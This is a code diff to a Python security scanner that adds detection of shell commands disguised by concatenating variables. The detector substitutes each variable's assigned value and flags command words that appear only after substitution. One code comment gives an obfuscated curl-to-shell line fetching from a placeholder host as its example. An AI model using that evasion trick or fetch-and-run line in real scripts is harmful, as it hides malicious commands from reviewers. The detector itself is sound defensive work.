@@ -19,7 +19,7 @@ import urllib.parse
 import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
-from functools import cached_property
+from functools import cached_property, partial
 from typing import NamedTuple
 
 from skillscan.model import Finding, Severity
@@ -142,6 +142,13 @@ _SPLIT_BACKSLASH = b"<letter\\letter>"
 _SPLIT_QUOTES = b"<letter''letter>"
 _SPLIT_DQUOTES = b'<letter""letter>'
 _SHELL_MARKERS = (_SPLIT_QUOTES, _SPLIT_DQUOTES, _SPLIT_BACKSLASH, b"ifs")
+# Pseudo-marker for a word glued from shell variables: `a=cu; b=rl; $a$b http://x | sh`.
+_SPLIT_VARS = b"<$var$var>"
+_VAR_LOOKBACK = 10  # lines before a glued word where its variables' assignments are looked up
+_ASSIGNMENT = re.compile(
+    r"(?m)(?:^|[\s;&|(])([A-Za-z_]\w{0,30})=([\"']?)([^\s;&|\"'`$()]{1,40})\2(?=[\s;&|)]|$)"
+)
+_EXPANSION = re.compile(r"\$(?:\{([A-Za-z_]\w{0,30})\}|([A-Za-z_]\w{0,30}))")
 _SHELL_JOIN = re.compile(r"(?<=[A-Za-z])(?:''|\"\"|\\)(?=[A-Za-z])")
 _IFS = re.compile(r"\$\{IFS\}|\$IFS\b")
 _COMMAND_WORD = re.compile(
@@ -502,6 +509,7 @@ _MARKER_GROUPS: tuple[tuple[re.Pattern[bytes], tuple[bytes, ...]], ...] = (
     (re.compile(rb"\\(?<=[a-z]\\)(?=[a-z])"), (_SPLIT_BACKSLASH,)),
     (re.compile(rb"''(?<=[a-z]'')(?=[a-z])"), (_SPLIT_QUOTES,)),
     (re.compile(rb'""(?<=[a-z]"")(?=[a-z])'), (_SPLIT_DQUOTES,)),
+    (re.compile(rb"\$\{?[a-z_]\w{0,30}\}?\$\{?[a-z_]"), (_SPLIT_VARS,)),
     (re.compile(rb"'[ \t]?\+[ \t]?['\"]"), (b"'+",)),
     (re.compile(rb'"[ \t]?\+[ \t]?[\'"]'), (b'"+',)),
 )
@@ -737,6 +745,33 @@ def _shell_splits(doc: _Text) -> Iterator[_Candidate]:
                 yield _Candidate("shell split", offset, line + "\0" + joined, False)
 
 
+def _expand(values: dict[str, str], match: re.Match[str]) -> str:
+    return values.get(match.group(1) or match.group(2), match.group(0))
+
+
+def _shell_vars(doc: _Text) -> Iterator[_Candidate]:
+    """Lines where a word glued from variables (`$a$b`) spells a command once the literal
+    values assigned to them on that line or the few before are substituted."""
+    for offset, line in doc.lines_with(_SPLIT_VARS):
+        if len(line) > 4000:
+            continue
+        begin = offset
+        for _ in range(_VAR_LOOKBACK):
+            if begin <= 0:
+                break
+            begin = doc.text.rfind("\n", 0, begin - 1) + 1
+        values: dict[str, str] = {}
+        for match in _ASSIGNMENT.finditer(doc.text, begin, offset + len(line)):
+            values[match.group(1)] = match.group(3)
+        if not values:
+            continue
+        joined = _EXPANSION.sub(partial(_expand, values), line)
+        before = {m.group().lower() for m in _COMMAND_WORD.finditer(line)}
+        after = {m.group().lower() for m in _COMMAND_WORD.finditer(joined)}
+        if after - before:
+            yield _Candidate("shell split", offset, line + "\0" + joined, False)
+
+
 Finder = Callable[[_Text], Iterator[_Candidate]]
 _ALL_FINDERS: tuple[Finder, ...] = (
     _escapes,
@@ -747,6 +782,7 @@ _ALL_FINDERS: tuple[Finder, ...] = (
     _reversed,
     _splits,
     _shell_splits,
+    _shell_vars,
 )
 # Which finders read which files, by suffix: each language hides strings its own way, and
 # every marker test is a pass over the file. Markdown (and anything unknown that is read as
@@ -759,7 +795,7 @@ _CODE_FINDERS: dict[str, tuple[Finder, ...]] = {
     ),
     **dict.fromkeys(
         ("", ".sh", ".bash", ".zsh", ".ksh", ".fish", ".command"),
-        (_escapes, _reversed, _shell_splits),
+        (_escapes, _reversed, _shell_splits, _shell_vars),
     ),
     **dict.fromkeys(
         (".ps1", ".psm1", ".psd1", ".bat", ".cmd", ".vbs"),
@@ -817,6 +853,7 @@ _GATES: dict[Finder, tuple[bytes, ...]] = {
     _reversed: (b"[::-1]", b".reverse(", b"reversed(", b"| rev", b"|rev", b"[-1.."),
     _splits: (b"'+", b'"+', b".join("),
     _shell_splits: (_SPLIT_QUOTES, _SPLIT_DQUOTES, _SPLIT_BACKSLASH, b"ifs"),
+    _shell_vars: (_SPLIT_VARS,),
 }
 
 
